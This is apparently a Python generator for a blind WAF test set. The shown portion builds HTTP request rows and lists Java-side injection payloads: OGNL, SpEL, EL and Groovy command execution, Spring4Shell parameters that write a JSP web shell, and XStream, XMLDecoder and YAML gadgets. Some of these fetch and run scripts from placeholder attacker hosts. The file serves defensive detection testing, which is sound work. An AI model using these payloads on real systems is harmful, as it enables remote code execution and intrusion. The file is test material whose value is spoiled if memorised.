#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v22" (waf_unseen_thirteenth.jsonl).

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, checks, source code, tests, docs, benchmarks or corpora (in
the repository or in the shared workspace); only the output-format docstring
of make_waf_unseen_twelfth.py (its first 60 lines) was consulted, to copy the
row format.  Attack payloads were composed from general knowledge of the
techniques (no payload lists were looked up or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v22";
all randomness comes from random.Random(131313), so two runs give
byte-identical output.  Standard library only (Python 3.11).  Run from the
repository root:

    python3 tests/data/make_waf_unseen_thirteenth.py

Output: waf_unseen_thirteenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v22-a-<category>-NNNN" (attack) / "v22-b-<category>-NNNN"
             (benign), numbered per category from 0001 in file order
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 800 in all; 20 of
             each 50 are evasive, "hard": true);
             benign: benign_richtext, benign_markdown, benign_code,
             benign_search, benign_graphql, benign_files, benign_urls,
             benign_base64, benign_api_json, benign_forms, benign_headers,
             benign_email, benign_i18n, benign_spreadsheet, benign_chat
             (the first five kinds 74 rows, the other ten 73 rows, 1100 in
             all; about a third of each kind "hard": true); 1900 rows in
             total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; no Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type), XML, or (rarely) a
             text/plain or YAML body
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document); a form row may carry the payload as a value or as a
             field name; a json row may carry it 10+ levels deep or after
             300+ characters of ordinary text in the same value; a multipart
             row carries it as a text field, a file's content or a file's
             filename; an xml row is either a value inside an element or
             (xxe, XStream, XMLDecoder, XAML, benign feeds) the whole document.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity decoding; header values are not decoded).
             Deliberate encoded evasions (double percent-encoding, %uXXXX,
             overlong UTF-8, ...) are kept literally, i.e. the raw request
             carries them percent-encoded once more.  For JSON values that
             are objects or arrays (NoSQL operators, gadget objects,
             structured benign values) the payload is the compact JSON text.
             For a GraphQL request the payload is the whole "query" string.
  hard       true for evasive attacks and for benign rows deliberately prone
             to false positives
  source     "v22"
"""

import base64
import codecs
import hashlib
import json
import os
import random
import string
import zlib
from urllib.parse import quote, quote_plus

SEED = 131313
SRC = "v22"
R = random.Random(SEED)
PH = "\ue000"  # placeholder for the payload inside document templates

# --------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def b64u(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.urlsafe_b64encode(s).decode().rstrip("=")


def ip_int(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def ip_hex(ip):
    return "0x%08x" % ip_int(ip)


def ip_oct_dotted(ip):
    return ".".join("0%o" % int(x) for x in ip.split("."))


def ip_hex_dotted(ip):
    return ".".join("0x%x" % int(x) for x in ip.split("."))


def ip_v6mapped(ip):
    n = ip_int(ip)
    return "[::ffff:%x:%x]" % (n >> 16, n & 0xFFFF)


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def pct_once(s):
    return quote(s, safe="")


def php_s(v):
    """PHP serialize() for str/int/bool/None/list/dict/Raw."""
    if isinstance(v, Raw):
        return str(v)
    if isinstance(v, bool):
        return "b:%d;" % (1 if v else 0)
    if isinstance(v, int):
        return "i:%d;" % v
    if v is None:
        return "N;"
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode("utf-8")), v)
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join(php_s(i) + php_s(x) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_s(k) + php_s(x) for k, x in v.items()))
    raise TypeError(v)


class Raw(str):
    pass


def php_obj(cls, props):
    """props: list of (name, visibility, value); visibility pub/prot/priv."""
    out = []
    for name, vis, val in props:
        if vis == "prot":
            key = "\x00*\x00" + name
        elif vis == "priv":
            key = "\x00" + cls + "\x00" + name
        else:
            key = name
        out.append(php_s(key) + php_s(val))
    return Raw('O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), "".join(out)))


def php_S(v):
    """the S: (escaped string) serialization form."""
    return Raw('S:%d:"%s";' % (len(v.encode()), "".join("\\%02x" % b for b in v.encode())))


# --------------------------------------------------------------------------
# serialisers
# --------------------------------------------------------------------------


def jstr(s, esc=None, ascii_only=False):
    out = ['"']
    for ch in s:
        o = ord(ch)
        if esc is not None and ch in esc:
            out.append("\\u%04x" % o)
        elif ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif o < 0x20 or o == 0x7F:
            out.append("\\u%04x" % o)
        elif ascii_only and o > 0x7E:
            if o > 0xFFFF:
                o -= 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (o >> 10), 0xDC00 + (o & 0x3FF)))
            else:
                out.append("\\u%04x" % o)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def jdump(o, compact=True, esc_map=None, ascii_only=False):
    """JSON serialiser; esc_map maps a string (value or key) to a set of
    characters that are written as \\uXXXX escapes in that string only."""
    sep_i, sep_k = (",", ":") if compact else (", ", ": ")

    def s(x):
        esc = esc_map.get(x) if esc_map else None
        return jstr(x, esc, ascii_only)

    def d(x):
        if isinstance(x, dict):
            return "{" + sep_i.join(s(k) + sep_k + d(v) for k, v in x.items()) + "}"
        if isinstance(x, list):
            return "[" + sep_i.join(d(v) for v in x) + "]"
        if isinstance(x, str):
            return s(x)
        return json.dumps(x)

    return d(o)


def compact(o):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


def xesc(s, charref=None):
    out = []
    for ch in s:
        o = ord(ch)
        if o < 0x20 and ch not in "\t\n\r":
            raise ValueError("char not allowed in XML: %r" % s)
        if charref and ch in charref:
            out.append("&#x%X;" % o)
        elif ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;")
        elif ch == ">":
            out.append("&gt;")
        elif ch == "\r":
            out.append("&#13;")
        else:
            out.append(ch)
    return "".join(out)


def enc_q(s, mode):
    """encode a query/form component (decoded with unquote_plus)."""
    if mode == "all":
        return pct_all(s)
    if mode == "lenient":
        return quote(s, safe="/:,'()!*@$~")
    if mode == "pct20":
        return quote(s, safe="")
    return quote_plus(s, safe="")


COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"


def enc_cookie(s, mode=None):
    if mode == "all":
        return pct_all(s)
    return quote(s, safe=COOKIE_SAFE)


def enc_path(s, safe="", mode=None):
    if mode == "all":
        return pct_all(s)
    return quote(s, safe=safe)


# --------------------------------------------------------------------------
# request pieces
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:132.0) Gecko/20100101 Firefox/132.0",
]
TOOL_UAS = [
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.42.0",
    "axios/1.7.7",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "python-httpx/0.27.2",
    "Wget/1.21.4",
]
APP_UAS = [
    "ShopKit/5.12.1 (iPhone; iOS 18.1; Scale/3.00)",
    "ShopKit/5.12.0 (Android 14; SM-S921B)",
    "Dart/3.5 (dart:io)",
    "node-fetch",
    "Slack-ImgProxy (+https://api.slack.com/robots)",
]

ACCEPTS_API = ["application/json", "application/json, text/plain, */*", "*/*", "application/json;charset=UTF-8"]
ACCEPTS_HTML = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
]
ACCEPTS_XML = ["application/xml", "text/xml", "application/soap+xml, text/xml", "*/*"]

FILLER_QUERY = [
    ("page", "1"),
    ("page", "2"),
    ("limit", "20"),
    ("per_page", "50"),
    ("lang", "en"),
    ("locale", "en-US"),
    ("v", "2"),
    ("format", "json"),
    ("sort", "created_at"),
    ("include", "author"),
    ("utm_source", "newsletter"),
    ("ref", "home"),
    ("_", "1733561842113"),
    ("debug", "false"),
    ("currency", "EUR"),
    ("region", "eu-west-1"),
]
FILLER_JSON = [
    ("locale", "en-US"),
    ("client", "web"),
    ("version", "2.3.1"),
    ("page", 1),
    ("limit", 25),
    ("currency", "EUR"),
    ("dryRun", False),
    ("tags", ["q4", "priority"]),
    ("source", "dashboard"),
    ("timezone", "Europe/Berlin"),
    ("active", True),
    ("count", 3),
    ("channel", "email"),
]
FILLER_FORM = [
    ("csrf_token", None),
    ("submit", "Save"),
    ("lang", "en"),
    ("remember", "on"),
    ("return_to", "/account"),
    ("step", "2"),
    ("agree", "1"),
    ("action", "update"),
]
DEEP_KEYS = [
    "data",
    "attributes",
    "settings",
    "profile",
    "preferences",
    "notifications",
    "channels",
    "config",
    "options",
    "rules",
    "conditions",
    "filter",
    "payload",
    "context",
    "extra",
    "params",
    "meta",
    "custom",
    "fields",
    "layout",
    "widgets",
    "sections",
    "content",
    "properties",
    "spec",
    "template",
    "values",
    "overrides",
    "display",
    "advanced",
]
COOKIE_FILLERS = [
    ("_ga", "GA1.2.{n}.1733400000"),
    ("theme", "dark"),
    ("lang", "en"),
    ("consent", "analytics%3Dno"),
    ("sid", "{h}"),
    ("_gid", "GA1.2.{n2}.1733512000"),
    ("cart_id", "{h8}"),
    ("tz", "Europe%2FBerlin"),
]
PAD_SENTENCES = [
    "Thanks again for the quick turnaround on the last order, the team was really happy with it.",
    "We are updating our profile text ahead of the holiday campaign so please bear with the changes.",
    "Our office is closed between Christmas and New Year but the warehouse keeps shipping.",
    "If anything in this note is unclear just reply to this thread and I will clarify.",
    "The quarterly numbers look fine overall, with a small dip in November that we expected.",
    "Please keep the packaging recyclable where possible; customers keep asking about it.",
    "I have attached the revised schedule and marked the two sessions that moved.",
    "The new onboarding checklist is much shorter and people seem to actually read it now.",
    "Delivery to the Lyon store should happen on Tuesday morning before ten.",
    "Let me know whether the colour samples arrived, the courier marked them as delivered.",
    "We are still waiting on the signed copy of the supplier agreement from legal.",
    "Reminder that the kitchen on the third floor will be cleaned on Friday afternoon.",
]


def rand_hex(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def rand_alnum(r, n):
    return "".join(r.choice(string.ascii_letters + string.digits) for _ in range(n))


def rand_uuid(r):
    h = rand_hex(r, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], r.choice("89ab"), h[17:20], h[20:32])


def pad_text(r, n=300):
    out = []
    while len(" ".join(out)) < n:
        out.append(r.choice(PAD_SENTENCES))
    return " ".join(out)


def cookie_fillers(r, k):
    out = []
    for name, tpl in r.sample(COOKIE_FILLERS, k):
        out.append(
            (
                name,
                tpl.format(
                    n=r.randint(100000000, 999999999),
                    n2=r.randint(100000000, 999999999),
                    h=rand_hex(r, 32),
                    h8=rand_hex(r, 8),
                ),
            )
        )
    return out


def boundary(r):
    style = r.randrange(4)
    if style == 0:
        return "----WebKitFormBoundary" + rand_alnum(r, 16)
    if style == 1:
        return "------------------------" + rand_hex(r, 16)
    if style == 2:
        return "----geckoformboundary" + rand_hex(r, 32)
    return rand_hex(r, 32)


def multipart_body(b, parts):
    """parts: list of (name, value, filename, ctype)."""
    out = []
    for name, value, filename, ctype in parts:
        assert "\r" not in name and "\n" not in name and '"' not in name
        cd = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            assert "\r" not in filename and "\n" not in filename and '"' not in filename, filename
            cd += '; filename="%s"' % filename
        out.append("--" + b + "\r\n" + cd + "\r\n")
        if ctype:
            out.append("Content-Type: " + ctype + "\r\n")
        out.append("\r\n")
        assert ("--" + b) not in value
        out.append(value + "\r\n")
    out.append("--" + b + "--\r\n")
    return "".join(out)


def wrap_deep(r, key, val, depth):
    keys = r.sample(DEEP_KEYS, depth)
    obj = {key: val}
    for k in reversed(keys):
        extra = r.random() < 0.3
        obj = {k: obj}
        if extra:
            fk, fv = r.choice(FILLER_JSON)
            obj[fk] = fv
    return obj


def subst(obj, val, keyval=None):
    """replace PH in a document template: string values equal to PH become
    val, keys equal to PH become val (keyval gives that key's value if set)."""
    if isinstance(obj, dict):
        out = {}
        for k, v in obj.items():
            if k == PH:
                out[val] = subst(keyval if keyval is not None else v, val)
            else:
                out[k] = subst(v, val, keyval)
        return out
    if isinstance(obj, list):
        return [subst(x, val, keyval) for x in obj]
    if obj == PH:
        return val
    return obj


def xml_value_doc(r, tag, val_escaped, style=None):
    style = r.randrange(5) if style is None else style
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n'
    if style == 0:
        return decl + "<request>\n  <%s>%s</%s>\n  <locale>en-US</locale>\n</request>" % (tag, val_escaped, tag)
    if style == 1:
        return (
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:ws="http://ws.example.com/api">\n <soapenv:Header/>\n <soapenv:Body>\n'
            "  <ws:lookup>\n   <ws:%s>%s</ws:%s>\n  </ws:lookup>\n </soapenv:Body>\n</soapenv:Envelope>"
            % (tag, val_escaped, tag)
        )
    if style == 2:
        return (
            decl
            + '<order id="%d">\n  <customer>\n    <%s>%s</%s>\n  </customer>\n  <items count="2"/>\n</order>'
            % (r.randint(1000, 99999), tag, val_escaped, tag)
        )
    if style == 3:
        return (
            "<methodCall><methodName>content.update</methodName><params><param><value><struct><member><name>%s</name><value><string>%s</string></value></member></struct></value></param></params></methodCall>"
            % (tag, val_escaped)
        )
    return decl + '<settings version="3"><profile><%s>%s</%s></profile></settings>' % (tag, val_escaped, tag)


def base_headers(r, host, ua, accept):
    return {"Host": host, "User-Agent": ua, "Accept": accept}


EXTRA_HEADERS = ["Accept-Language", "Accept-Encoding", "Authorization", "X-Request-ID", "Origin", "Referer", "Cookie"]


def extra_headers(r, h, host, k, skip=()):
    names = [n for n in r.sample(EXTRA_HEADERS, k) if n not in skip and n not in h]
    for n in names:
        if n == "Accept-Language":
            h[n] = r.choice(
                ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.8,en-US;q=0.5", "en-GB,en;q=0.9"]
            )
        elif n == "Accept-Encoding":
            h[n] = r.choice(["gzip, deflate, br", "gzip, deflate, br, zstd", "gzip"])
        elif n == "Authorization":
            h[n] = "Bearer " + rand_alnum(r, 40)
        elif n == "X-Request-ID":
            h[n] = rand_uuid(r)
        elif n == "Origin":
            h[n] = "https://" + host
        elif n == "Referer":
            h[n] = "https://%s/%s" % (host, r.choice(["", "dashboard", "account/settings", "search", "products"]))
        elif n == "Cookie":
            h[n] = "; ".join("%s=%s" % kv for kv in cookie_fillers(r, r.randint(1, 3)))


def build(r, s):
    """Turn a row spec into (method, path, query, headers, body).

    spec keys: pl (placement), p (payload), host, ua, accept, method, path,
    param, extra_q, enc (query/form/cookie/path encoding mode), path_tpl,
    path_safe, doc (JSON template with PH), raw (payload is JSON text to be
    embedded as a value), deep, keyval, esc (set of chars to \\u-escape in
    the payload string), esc_map, hdr (header name), cookie, as_name,
    form_extra, mp (field/file/filename), fname, fctype, mp_extra, xml_doc
    (payload is the whole XML document), xml_tpl, charref, body_override,
    ctype.
    """
    pl = s["pl"]
    p = s["p"]
    host = s["host"]
    h = base_headers(r, host, s["ua"], s["accept"])
    method = s.get("method")
    path = s.get("path", "/")
    query = ""
    body = ""
    ctype = s.get("ctype")
    enc = s.get("enc")

    def qpairs(main):
        pairs = list(s.get("extra_q") or [])
        if not s.get("no_filler_q"):
            for kv in r.sample(FILLER_QUERY, r.randint(0, 2)):
                if kv[0] not in [x[0] for x in pairs] and kv[0] != s.get("param"):
                    pairs.append(kv)
        pos = r.randint(0, len(pairs)) if s.get("q_pos") is None else s["q_pos"]
        pairs.insert(pos, main)
        return pairs

    def qjoin(pairs, main_enc):
        out = []
        for k, v in pairs:
            if (k, v) == main_enc[0]:
                out.append(main_enc[1])
            else:
                out.append(enc_q(k, None) + ("=" + enc_q(v, None) if v is not None else ""))
        return "&".join(out)

    if pl in ("query", "query_key"):
        method = method or "GET"
        param = s.get("param", "q")
        if pl == "query":
            main = (param, p)
            m_raw = enc_q(param, None) + "=" + enc_q(p, enc)
        else:
            kv = s.get("keyval", "1")
            main = (p, kv)
            m_raw = enc_q(p, enc) + ("=" + enc_q(kv, None) if kv is not None else "")
        query = qjoin(qpairs(main), (main, m_raw))
    elif s.get("query_raw") is not None:
        query = s["query_raw"]

    if pl == "path":
        method = method or "GET"
        seg = enc_path(p, s.get("path_safe", ""), enc)
        path = s["path_tpl"].replace("{}", seg)
        if s.get("extra_q"):
            query = "&".join(enc_q(k, None) + "=" + enc_q(v, None) for k, v in s["extra_q"])

    if pl in ("json", "json_key"):
        method = method or r.choice(["POST", "POST", "PUT", "PATCH"])
        param = s.get("param", "value")
        val = p
        if s.get("raw"):
            val = json.loads(p)
            assert compact(val) == p, (p, compact(val))
        if pl == "json_key":
            kv = s.get("keyval", r.choice([True, 1, "1", "x"]))
            if s.get("doc") is not None:
                doc = subst(s["doc"], p, s.get("keyval"))
            else:
                inner = {p: kv}
                for fk, fv in r.sample(FILLER_JSON, r.randint(1, 2)):
                    inner.setdefault(fk, fv)
                doc = wrap_deep(r, param, inner, r.randint(10, 13)) if s.get("deep") else {param: inner}
        else:
            if s.get("doc") is not None:
                doc = subst(s["doc"], val)
            elif s.get("deep"):
                doc = wrap_deep(r, param, val, r.randint(10, 13))
            else:
                doc = {}
                fill = r.sample(FILLER_JSON, r.randint(0, 3))
                pos = r.randint(0, len(fill))
                for i, (fk, fv) in enumerate(fill):
                    if i == pos:
                        doc[param] = val
                    doc.setdefault(fk, fv)
                if param not in doc:
                    doc[param] = val
                if r.random() < 0.25:
                    doc = {r.choice(["data", "input", "item", "record", "attributes"]): doc}
        esc_map = dict(s.get("esc_map") or {})
        if s.get("esc"):
            esc_map[p] = set(s["esc"])
        body = jdump(
            doc,
            compact=s.get("compact", r.random() < 0.7),
            esc_map=esc_map or None,
            ascii_only=s.get("ascii_only", False),
        )
        ctype = ctype or r.choice(["application/json", "application/json", "application/json; charset=utf-8"])

    if pl == "form":
        method = method or "POST"
        param = s.get("param", "value")
        pairs = []
        for k, v in s.get("form_extra") or []:
            pairs.append((k, v))
        if not s.get("no_filler_form"):
            for k, v in r.sample(FILLER_FORM, r.randint(0, 2)):
                if k not in [x[0] for x in pairs]:
                    pairs.append((k, v if v is not None else rand_alnum(r, 32)))
        pos = r.randint(0, len(pairs)) if s.get("f_pos") is None else s["f_pos"]
        if s.get("as_name"):
            main_raw = enc_q(p, enc) + "=" + enc_q(s.get("keyval", "1"), None)
        else:
            main_raw = enc_q(param, None) + "=" + enc_q(p, enc)
        parts = [enc_q(k, None) + "=" + enc_q(v, None) for k, v in pairs]
        parts.insert(pos, main_raw)
        body = "&".join(parts)
        ctype = ctype or r.choice(
            ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]
        )

    if pl == "multipart":
        method = method or "POST"
        b = boundary(r)
        mode = s.get("mp", "field")
        parts = list(s.get("mp_extra") or [])
        param = s.get("param", "file" if mode != "field" else "value")
        if mode == "field":
            main = (param, p, None, None)
        elif mode == "file":
            main = (param, p, s.get("fname", "upload.txt"), s.get("fctype", "text/plain"))
        else:
            main = (param, s.get("fcontent", "hello\n"), p, s.get("fctype", "application/octet-stream"))
        pos = r.randint(0, len(parts)) if s.get("mp_pos") is None else s["mp_pos"]
        parts.insert(pos, main)
        body = multipart_body(b, parts)
        ctype = "multipart/form-data; boundary=" + b

    if pl == "xml":
        method = method or "POST"
        if s.get("xml_doc"):
            body = p
        elif s.get("xml_tpl"):
            body = s["xml_tpl"].replace(PH, xesc(p, s.get("charref")))
        else:
            body = xml_value_doc(r, s.get("param", "value"), xesc(p, s.get("charref")), s.get("xml_style"))
        ctype = ctype or r.choice(["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"])

    if s.get("body_override") is not None:
        ctype, body = s["body_override"]
        method = method or "POST"

    if pl == "header":
        method = method or "GET"
        name = s.get("hdr", "X-Custom")
        if name not in h and ctype and name != "Content-Type":
            pass
        if name == "Content-Type":
            ctype = p
        else:
            h[name] = p
    if ctype is not None:
        h["Content-Type"] = ctype
    if pl == "cookie":
        method = method or "GET"
        cks = cookie_fillers(r, r.randint(1, 3))
        pos = r.randint(0, len(cks))
        cks.insert(pos, (s.get("cookie", "pref"), enc_cookie(p, enc)))
        h["Cookie"] = "; ".join("%s=%s" % kv for kv in cks)
    if pl == "header" and "hdr" in s and s["hdr"] in ("User-Agent", "Accept"):
        h[s["hdr"]] = p
    for k, v in s.get("hdr_extra") or []:
        h[k] = v
    extra_headers(r, h, host, r.randint(0, 3), skip=("Cookie",) if pl == "cookie" else ())
    # fixed order: Host, User-Agent, Accept, Content-Type first
    order = ["Host", "User-Agent", "Accept"] + (["Content-Type"] if "Content-Type" in h else [])
    hh = {k: h[k] for k in order}
    for k, v in h.items():
        if k not in hh:
            hh[k] = v
    for k, v in hh.items():
        assert all(0x20 <= ord(c) < 0x7F or c == "\t" for c in v), (k, v)
    return method or "GET", path, query, hh, body


# --------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------

ATK_HOSTS = ["attacker.example", "oob.attacker.example", "x7k2q.oast.example", "cb.evil.example", "drop.badcdn.example"]
ATK_IP = "203.0.113.7"
ATK_IP2 = "198.51.100.23"
META_IP = "169.254.169.254"


class L:
    """collects attack specs for one category."""

    def __init__(self):
        self.rows = []

    def __call__(self, pl, p, hard=False, **o):
        d = dict(pl=pl, p=p, hard=hard)
        d.update(o)
        self.rows.append(d)


# ---------------------------------------------------------------- java ----
def cat_java(r):
    a = L()
    # normal
    a(
        "query",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        path="/struts2-showcase/employee/save.action",
        param="name",
    )
    a(
        "header",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='cat /etc/hostname').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#p.start().getInputStream(),#ros)).(#ros.flush())}",
        hdr="Content-Type",
        path="/orders/upload.action",
        method="POST",
    )
    a(
        "path",
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
        path_tpl="/{}/",
        path_safe="(){}@,'$#",
    )
    a(
        "path",
        "${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2057'))}",
        path_tpl="/showcase/{}/actionChain1.action",
    )
    a(
        "query",
        "T(java.lang.Runtime).getRuntime().exec('nslookup s5.oob.attacker.example')",
        path="/api/v1/products",
        param="sort",
    )
    a(
        "json",
        "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','curl -s http://203.0.113.7/a.sh|sh'})}",
        path="/api/v1/notifications/templates",
        param="subjectExpression",
    )
    a(
        "header",
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf")',
        hdr="spring.cloud.function.routing-expression",
        path="/functionRouter",
        method="POST",
        body_override=("text/plain", "hello"),
    )
    a(
        "json",
        '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
        path="/actuator/gateway/routes/r1",
        method="POST",
        doc={
            "id": "r1",
            "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": PH}}],
            "uri": "http://example.com",
        },
    )
    a(
        "form",
        '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
        path="/faces/profile.xhtml",
        param="displayName",
    )
    a(
        "json",
        "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
        path="/api/v2/validation/messages",
        param="message",
    )
    a(
        "form",
        'println "uname -a".execute().text',
        path="/script",
        param="script",
        form_extra=[("Jenkins-Crumb", "4f0b6a2c1e9d")],
    )
    a("json", "['bash','-c','id > /tmp/g'].execute().waitFor()", path="/api/rules/test", param="condition")
    a(
        "query",
        '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})\ndef x',
        path="/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript",
        param="value",
        extra_q=[("sandbox", "true")],
        no_filler_q=True,
    )
    a(
        "json",
        '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.7:8000/inject.sql\'"}]',
        raw=True,
        path="/api/preferences",
        param="storage",
    )
    a(
        "json",
        '["org.springframework.context.support.ClassPathXmlApplicationContext","http://attacker.example/spel.xml"]',
        raw=True,
        path="/api/v1/jobs",
        param="handler",
    )
    a(
        "json",
        '{"@type":"java.net.Inet4Address","val":"fj.oob.attacker.example"}',
        raw=True,
        path="/api/login",
        param="user",
    )
    a(
        "xml",
        '<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>/bin/sh</string>\n          <string>-c</string>\n          <string>wget -qO- http://198.51.100.23/x | sh</string>\n        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>',
        xml_doc=True,
        path="/api/contacts/import",
    )
    a(
        "xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n <object class="java.lang.ProcessBuilder">\n  <array class="java.lang.String" length="3">\n   <void index="0"><string>/bin/bash</string></void>\n   <void index="1"><string>-c</string></void>\n   <void index="2"><string>id &gt; /tmp/xmldecoder</string></void>\n  </array>\n  <void method="start"/>\n </object>\n</java>',
        xml_doc=True,
        path="/wls-wsat/CoordinatorPortType",
        ctype="text/xml",
    )
    a(
        "multipart",
        '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://203.0.113.7:8000/yaml-payload.jar"]\n  ]]\n]\n',
        mp="file",
        fname="pipeline.yml",
        fctype="application/x-yaml",
        path="/api/pipelines/import",
        param="definition",
    )
    a(
        "form",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        as_name=True,
        keyval='%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i',
        form_extra=[
            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
        ],
        f_pos=0,
        no_filler_form=True,
        path="/greeting",
        hdr_extra=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")],
    )
    a(
        "query_key",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory",
        keyval="webapps/ROOT",
        path="/app/account",
        no_filler_q=True,
    )
